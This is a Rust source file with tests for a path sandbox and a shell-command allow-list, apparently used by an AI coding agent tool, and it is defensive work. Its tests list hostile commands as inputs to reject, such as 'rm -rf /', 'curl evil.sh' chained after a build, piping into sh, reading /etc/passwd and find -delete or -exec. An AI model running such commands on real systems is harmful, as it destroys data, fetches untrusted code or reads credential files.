//! Path sandbox and command policy
//!
//! Every file-touching tool resolves its path through [`PathSandbox`] before
//! any I/O. Shell commands go through [`CommandPolicy`].

use std::collections::BTreeSet;
use std::path::{Component, Path, PathBuf};
use thiserror::Error;

/// Characters and sequences that chain, redirect or substitute in `sh`
const SHELL_OPERATORS: &[&str] = &["&&", "||", "$(", ";", "|", "`", ">", "<", "\n"];

/// `find` actions that delete, write or spawn arbitrary programs
const UNSAFE_ARGUMENTS: &[&str] = &["-delete", "-exec", "-execdir", "-ok", "-okdir", "-fls"];

/// Holds the runtime config; always blocked
pub const CONFIG_DIR: &str = ".drover";

#[derive(Error, Debug, Clone, PartialEq, Eq)]
pub enum SandboxError {
    #[error("path is outside the project root: {0}")]
    OutsideRoot(String),

    #[error("path {path} touches blocked segment '{segment}'")]
    BlockedSegment { path: String, segment: String },

    #[error("command not allowed: {0}")]
    CommandNotAllowed(String),

    #[error("command contains shell operator '{operator}': {command}")]
    ShellOperator { command: String, operator: String },

    #[error("command argument '{argument}' is not allowed: {command}")]
    UnsafeArgument { command: String, argument: String },

    #[error("invalid project root {path}: {reason}")]
    InvalidRoot { path: String, reason: String },
}

/// Resolves relative paths against a fixed project root
#[derive(Debug, Clone)]
pub struct PathSandbox {
    root: PathBuf,
    blocked: BTreeSet<String>,
}

impl PathSandbox {
    /// Create a sandbox rooted at `root`, which must exist
    pub fn new<I, S>(root: impl AsRef<Path>, blocked: I) -> Result<Self, SandboxError>
    where
        I: IntoIterator<Item = S>,
        S: Into<String>,
    {
        let root = root.as_ref();
        let root = root.canonicalize().map_err(|e| SandboxError::InvalidRoot {
            path: root.display().to_string(),
            reason: e.to_string(),
        })?;

        let mut blocked: BTreeSet<String> = blocked.into_iter().map(Into::into).collect();
        blocked.insert(CONFIG_DIR.to_string());

        Ok(Self { root, blocked })
    }

    pub fn root(&self) -> &Path {
        &self.root
    }

    /// Whether a single path segment is on the block-list
    pub fn is_blocked_name(&self, name: &str) -> bool {
        self.blocked.contains(name)
    }

    /// Resolve `relative` to an absolute path under the root
    ///
    /// An empty path or `.` resolves to the root itself. Absolute paths are
    /// accepted only when they already lie under the root.
    pub fn resolve(&self, relative: &str) -> Result<PathBuf, SandboxError> {
        let trimmed = relative.trim();
        let raw = Path::new(trimmed);

        let mut resolved = self.root.clone();
        let tail = if raw.is_absolute() {
            raw.strip_prefix(&self.root)
                .map_err(|_| SandboxError::OutsideRoot(trimmed.to_string()))?
        } else {
            raw
        };

        for component in tail.components() {
            match component {
                Component::Normal(segment) => {
                    let segment = segment.to_string_lossy();
                    if self.is_blocked_name(&segment) {
                        return Err(SandboxError::BlockedSegment {
                            path: trimmed.to_string(),
                            segment: segment.into_owned(),
                        });
                    }
                    resolved.push(segment.as_ref());
                }
                Component::CurDir => {}
                Component::ParentDir | Component::RootDir | Component::Prefix(_) => {
                    return Err(SandboxError::OutsideRoot(trimmed.to_string()));
                }
            }
        }

        self.check_symlinks(&resolved, trimmed)?;
        Ok(resolved)
    }

    /// Reject a shell command whose arguments name a blocked segment
    ///
    /// Each argument is split on `/` and `=`; a segment containing glob
    /// characters is rejected when it would match a blocked name.
    pub fn check_command_args(&self, command: &str) -> Result<(), SandboxError> {
        for token in command.split_whitespace() {
            let token = unquote(token);
            for segment in token.split(['/', '=']) {
                if segment.is_empty() {
                    continue;
                }
                if let Some(hit) = self.blocked_match(segment) {
                    return Err(SandboxError::BlockedSegment {
                        path: token.clone(),
                        segment: hit,
                    });
                }
            }
        }
        Ok(())
    }

    fn blocked_match(&self, segment: &str) -> Option<String> {
        if self.is_blocked_name(segment) {
            return Some(segment.to_string());
        }
        // A bare `*` never expands to dotfiles; rejecting it would refuse `ls *`
        if !segment.contains(['*', '?', '[']) || segment.chars().all(|c| c == '*') {
            return None;
        }
        let pattern = glob::Pattern::new(segment).ok()?;
        // sh globs skip dotfiles unless the pattern spells out the dot
        let options = glob::MatchOptions {
            case_sensitive: true,
            require_literal_separator: true,
            require_literal_leading_dot: true,
        };
        self.blocked
            .iter()
            .find(|name| pattern.matches_with(name, options))
            .cloned()
    }

    /// Strip the root prefix for reporting
    pub fn relative(&self, absolute: &Path) -> String {
        match absolute.strip_prefix(&self.root) {
            Ok(rel) if rel.as_os_str().is_empty() => ".".to_string(),
            Ok(rel) => rel.to_string_lossy().replace('\\', "/"),
            Err(_) => absolute.to_string_lossy().into_owned(),
        }
    }

    /// Add extra blocked names on top of the configured list
    pub fn with_additional_blocked<I, S>(mut self, extra: I) -> Self
    where
        I: IntoIterator<Item = S>,
        S: Into<String>,
    {
        self.blocked.extend(extra.into_iter().map(Into::into));
        self
    }

    // The nearest existing ancestor must canonicalize under the root, so a
    // symlinked directory cannot redirect a write outside it.
    fn check_symlinks(&self, resolved: &Path, original: &str) -> Result<(), SandboxError> {
        let existing = resolved.ancestors().find(|p| p.exists());
        if let Some(existing) = existing {
            let canonical = existing
                .canonicalize()
                .map_err(|_| SandboxError::OutsideRoot(original.to_string()))?;
            if !canonical.starts_with(&self.root) {
                return Err(SandboxError::OutsideRoot(original.to_string()));
            }
        }
        Ok(())
    }
}

/// Allow-list for shell commands
#[derive(Debug, Clone, Default)]
pub struct CommandPolicy {
    allowed: Vec<String>,
}

impl CommandPolicy {
    pub fn new<I, S>(allowed: I) -> Self
    where
        I: IntoIterator<Item = S>,
        S: Into<String>,
    {
        Self {
            allowed: allowed
                .into_iter()
                .map(|s| s.into().trim().to_string())
                .filter(|s| !s.is_empty())
                .collect(),
        }
    }

    pub fn with_additional<I, S>(mut self, extra: I) -> Self
    where
        I: IntoIterator<Item = S>,
        S: Into<String>,
    {
        for cmd in extra {
            let cmd = cmd.into().trim().to_string();
            if !cmd.is_empty() && !self.allowed.contains(&cmd) {
                self.allowed.push(cmd);
            }
        }
        self
    }

    pub fn allowed(&self) -> &[String] {
        &self.allowed
    }

    /// Accept `command` if it is an allow-listed command, optionally followed
    /// by a space and arguments. Returns the trimmed command.
    pub fn check(&self, command: &str) -> Result<String, SandboxError> {
        let command = command.trim();

        if let Some(op) = SHELL_OPERATORS.iter().find(|op| command.contains(*op)) {
            return Err(SandboxError::ShellOperator {
                command: command.to_string(),
                operator: op.escape_default().to_string(),
            });
        }

        for token in command.split_whitespace() {
            let token = unquote(token);
            if UNSAFE_ARGUMENTS.contains(&token.as_str()) || token.starts_with("-fprint") {
                return Err(SandboxError::UnsafeArgument {
                    command: command.to_string(),
                    argument: token,
                });
            }
        }

        let permitted = self.allowed.iter().any(|allowed| {
            command == allowed
                || command
                    .strip_prefix(allowed.as_str())
                    .is_some_and(|rest| rest.starts_with(' '))
        });

        if permitted {
            Ok(command.to_string())
        } else {
            Err(SandboxError::CommandNotAllowed(command.to_string()))
        }
    }
}

// `sh` strips quotes and backslashes, so `-de'le'te` still means `-delete`
fn unquote(token: &str) -> String {
    token.chars().filter(|c| !matches!(c, '\'' | '"' | '\\')).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use tempfile::TempDir;

    fn sandbox(dir: &TempDir) -> PathSandbox {
        PathSandbox::new(dir.path(), [".git", "node_modules", ".env"]).unwrap()
    }

    #[test]
    fn test_resolve_relative() {
        let dir = TempDir::new().unwrap();
        let sb = sandbox(&dir);
        let resolved = sb.resolve("src/main.rs").unwrap();
        assert_eq!(resolved, sb.root().join("src/main.rs"));
        assert_eq!(sb.relative(&resolved), "src/main.rs");
    }

    #[test]
    fn test_resolve_root() {
        let dir = TempDir::new().unwrap();
        let sb = sandbox(&dir);
        assert_eq!(sb.resolve("").unwrap(), sb.root());
        assert_eq!(sb.resolve(".").unwrap(), sb.root());
        assert_eq!(sb.relative(sb.root()), ".");
    }

    #[test]
    fn test_parent_dir_rejected() {
        let dir = TempDir::new().unwrap();
        let sb = sandbox(&dir);
        for path in ["../etc/passwd", "src/../../x", "a/b/../c", ".."] {
            assert!(
                matches!(sb.resolve(path), Err(SandboxError::OutsideRoot(_))),
                "{} should be rejected",
                path
            );
        }
    }

    #[test]
    fn test_absolute_outside_rejected() {
        let dir = TempDir::new().unwrap();
        let sb = sandbox(&dir);
        assert!(matches!(
            sb.resolve("/etc/passwd"),
            Err(SandboxError::OutsideRoot(_))
        ));
    }

    #[test]
    fn test_absolute_inside_accepted() {
        let dir = TempDir::new().unwrap();
        let sb = sandbox(&dir);
        let inside = sb.root().join("notes.md");
        let resolved = sb.resolve(&inside.to_string_lossy()).unwrap();
        assert_eq!(resolved, inside);
    }

    #[test]
    fn test_blocked_segment_exact_match() {
        let dir = TempDir::new().unwrap();
        let sb = sandbox(&dir);
        assert!(matches!(
            sb.resolve(".git/config"),
            Err(SandboxError::BlockedSegment { .. })
        ));
        assert!(matches!(
            sb.resolve("web/node_modules/react/index.js"),
            Err(SandboxError::BlockedSegment { .. })
        ));
        // Substrings are fine
        assert!(sb.resolve("docs/.github/workflow.yml").is_ok());
        assert!(sb.resolve(".env.example").is_ok());
    }

    #[test]
    fn test_additional_blocked() {
        let dir = TempDir::new().unwrap();
        let sb = sandbox(&dir).with_additional_blocked(["vendor"]);
        assert!(sb.resolve("vendor/lib.rs").is_err());
    }

    #[cfg(unix)]
    #[test]
    fn test_symlink_escape_rejected() {
        let dir = TempDir::new().unwrap();
        let outside = TempDir::new().unwrap();
        std::os::unix::fs::symlink(outside.path(), dir.path().join("link")).unwrap();

        let sb = sandbox(&dir);
        assert!(matches!(
            sb.resolve("link/secret.txt"),
            Err(SandboxError::OutsideRoot(_))
        ));
    }

    #[test]
    fn test_invalid_root() {
        assert!(matches!(
            PathSandbox::new("/definitely/not/a/real/root", Vec::<String>::new()),
            Err(SandboxError::InvalidRoot { .. })
        ));
    }

    #[test]
    fn test_command_policy_prefix() {
        let policy = CommandPolicy::new(["cargo test", "ls", "git status"]);
        assert!(policy.check("cargo test").is_ok());
        assert!(policy.check("  cargo test --workspace ").is_ok());
        assert!(policy.check("ls -la src").is_ok());
        assert!(policy.check("git status").is_ok());

        // Prefix without a space boundary
        assert!(policy.check("cargo testify").is_err());
        assert!(policy.check("lsof").is_err());
        assert!(policy.check("rm -rf /").is_err());
        assert!(policy.check("git push").is_err());
    }

    #[test]
    fn test_command_policy_operators() {
        let policy = CommandPolicy::new(["cargo test", "ls", "cat"]);
        for cmd in [
            "ls; rm -rf /",
            "cargo test && curl evil.sh",
            "ls || true",
            "cat x | sh",
            "cat `whoami`",
            "cat $(whoami)",
            "ls > out.txt",
            "cat < /etc/passwd",
        ] {
            assert!(
                matches!(policy.check(cmd), Err(SandboxError::ShellOperator { .. })),
                "{} should be rejected",
                cmd
            );
        }
    }

    #[test]
    fn test_config_dir_always_blocked() {
        let dir = TempDir::new().unwrap();
        let sb = PathSandbox::new(dir.path(), Vec::<String>::new()).unwrap();
        assert!(matches!(
            sb.resolve(".drover/config.toml"),
            Err(SandboxError::BlockedSegment { segment, .. }) if segment == CONFIG_DIR
        ));
    }

    #[test]
    fn test_command_policy_rejects_find_actions() {
        let policy = CommandPolicy::new(["find", "ls"]);
        assert!(policy.check("find . -name '*.rs'").is_ok());
        for cmd in [
            "find .git .env -delete",
            "find . -name src -exec rm -rf {} +",
            "find . -execdir sh -c id {} +",
            "find . -ok rm {} +",
            "find . -fprint out.txt",
            "find . -fprintf out.txt %p",
            "find . -fls listing",
            "find . -de'le'te",
            "find . \\-exec rm {} +",
        ] {
            assert!(
                matches!(policy.check(cmd), Err(SandboxError::UnsafeArgument { .. })),
                "{} should be rejected",
                cmd
            );
        }
    }

    #[test]
    fn test_command_args_blocked_segments() {
        let dir = TempDir::new().unwrap();
        let sb = sandbox(&dir);
        for cmd in [
            "cat .env",
            "cat '.env'",
            "ls .git/objects",
            "grep -r token ./web/node_modules",
            "grep --include=.env key .",
            "cat .dro*/config.toml",
            "cat .en?",
        ] {
            assert!(
                matches!(
                    sb.check_command_args(cmd),
                    Err(SandboxError::BlockedSegment { .. })
                ),
                "{} should be rejected",
                cmd
            );
        }
        assert!(sb.check_command_args("cat .env.example").is_ok());
        assert!(sb.check_command_args("ls src/*.rs").is_ok());
        assert!(sb.check_command_args("grep -rn todo src/*").is_ok());
        assert!(sb.check_command_args("cat node_*/react/index.js").is_err());
        assert!(sb.check_command_args("cargo test --workspace").is_ok());
    }

    #[test]
    fn test_command_policy_additional() {
        let policy = CommandPolicy::new(["ls"]).with_additional(["just test", "ls"]);
        assert_eq!(policy.allowed().len(), 2);
        assert!(policy.check("just test unit").is_ok());
    }
}
